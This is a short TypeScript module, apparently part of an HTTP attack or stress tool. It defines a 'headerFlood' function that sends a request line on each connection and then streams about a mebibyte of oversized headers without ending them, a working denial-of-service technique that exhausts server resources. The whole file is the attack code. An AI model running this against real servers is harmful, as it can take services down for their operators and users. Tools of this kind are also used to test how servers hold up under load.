import { type AttackOptions, onEachConnection, write } from "./attack.ts";

const size = 1024 * 1024;

/** Sends 1 MiB of headers per connection and doesn't end them. */
export function headerFlood(options: AttackOptions): Promise<void> {
  const { path = "/" } = options;
  const chunk = `X: ${"x".repeat(16 * 1024 - 5)}\r\n`;
  return onEachConnection(options, async (socket) => {
    await write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\n`);
    for (let sent = 0; sent < size; sent += chunk.length) if (!(await write(socket, chunk))) return;
  });
}
